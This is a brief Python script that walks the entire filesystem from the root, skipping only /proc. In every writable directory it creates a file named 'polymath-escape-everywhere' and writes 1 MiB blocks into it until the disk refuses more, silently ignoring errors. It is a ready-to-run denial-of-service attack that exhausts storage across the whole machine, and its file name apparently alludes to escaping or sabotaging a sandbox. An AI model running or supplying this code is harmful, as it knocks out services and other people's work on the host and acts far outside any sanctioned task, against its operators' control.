"""Fills every folder that takes a file."""

import contextlib
import os

folders = [folder for folder, _, _ in os.walk("/") if os.access(folder, os.W_OK) and not folder.startswith("/proc")]
for folder in folders:
    with contextlib.suppress(OSError):
        descriptor = os.open(f"{folder}/polymath-escape-everywhere", os.O_WRONLY | os.O_CREAT)
        while os.write(descriptor, b"x" * 2**20):
            pass
